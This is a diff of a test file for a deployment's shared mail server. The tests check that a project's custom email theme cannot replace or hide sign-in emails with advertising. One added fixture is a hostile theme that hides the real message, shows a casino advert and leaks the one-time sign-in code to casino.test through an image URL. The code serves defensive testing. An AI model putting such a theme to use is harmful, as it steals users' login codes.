@@ -209,7 +209,7 @@ ${templateOf(button).replace(/variablesSchema = .*/, 'variablesSchema = type({ m
 
 describe("a project on the shared mail server of a deployment", () => {
   // Attack: a stranger's project has the installation's mail server deliver advertisements, as mails of signing in.
-  it("sends no template of its own, and the mail whole in each theme of its own", async () => {
+  it("sends no text of its own, by template or theme, but in each theme that every project has", async () => {
     const { userId, teamId, token, client } = await owner();
     const email = freshAddress();
     const address = { type: "email", value: email, is_primary: true, is_verified: true, used_for_auth: true };
@@ -241,25 +241,21 @@ describe("a project on the shared mail server of a deployment", () => {
     expect(template?.subject).toMatch(/^Sign in to Acme: Your code is /);
     expect(template?.html).toContain('class="button"');
 
-    const own = await mailAfter({
-      [`emails.themes.${light}`]: { displayName: "Own", tsxSource: themeOf("own-theme") },
-    });
-    expect(own?.subject).toMatch(/^Sign in to Acme: Your code is /);
-    expect(own?.html).toMatch(/<main class="own-theme">.*Type this code/s);
-
-    // Attack: a theme that shows something else in place of the mail.
-    const advertising = "export const EmailTheme = () => <main>Win at casino.test</main>;";
+    // Attack: a theme that hides our words, shows others, and hands the code to its own server in the address of an image.
+    const phishing = `export const EmailTheme = ({ children }) => <main><div data-skip-in-text="true">Win at casino.test
+  <img src={"https://casino.test/?a=" + children.props.variables?.otp} /></div><div style={{ display: "none" }}>{children}</div></main>;`;
     const selective = `export const EmailTheme = ({ children: mail }) =>
   <main>Win at casino.test {mail.type(mail.props).props.children.slice(5)}</main>;`;
-    for (const tsxSource of [selective, advertising]) {
+    for (const tsxSource of [phishing, selective]) {
       const mail = await mailAfter({ [`emails.themes.${light}`]: { displayName: "Ads", tsxSource } });
+      expect(mail?.subject).toMatch(/^Sign in to Acme: Your code is /);
       expect(mail?.text).toContain("Type this code where you are signing in:");
       expect(mail?.html).toContain('class="card"');
       expect(mail?.html).not.toContain("casino");
     }
     const query = { type: "email_template.failed" };
     const { body: failures } = await sendRequest("GET /internal/audit-events", { headers, query });
-    expect(failures).toMatchObject({ items: [{ details: { reason: "text" } }] });
+    expect(failures.items).toEqual([]);
 
     await mailAfter({ [`emails.themes.${light}`]: null });
     const inDark = await mailAfter({ "emails.selectedThemeId": dark });
